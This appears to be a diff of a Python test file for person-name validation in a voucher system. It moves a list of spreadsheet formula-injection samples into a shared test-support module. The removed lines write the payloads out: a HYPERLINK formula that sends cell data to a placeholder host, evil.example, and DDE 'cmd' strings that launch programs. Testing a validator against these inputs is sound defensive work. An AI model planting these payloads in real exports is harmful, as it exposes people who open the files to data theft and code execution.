@@ -10,20 +10,10 @@ import pytest
 
 from models import Person
 from tests.support.factories import auth, bureau, id_number, published_batch, regions
+from tests.support.formula_injection import INJECTED
 from vouchers.common import errors
 from vouchers.common.person_name import person_name
 
-HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
-INJECTED = [
-    HYPERLINK,
-    "+1+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t" + HYPERLINK,
-    " " + HYPERLINK,
-    "\r" + HYPERLINK,
-    "\t =1+1",
-]
 GOOD = ["王小明", "阿卜杜·热西提", "Anna Smith", "玛丽亚•伊万诺娃", "José María"]
 
 
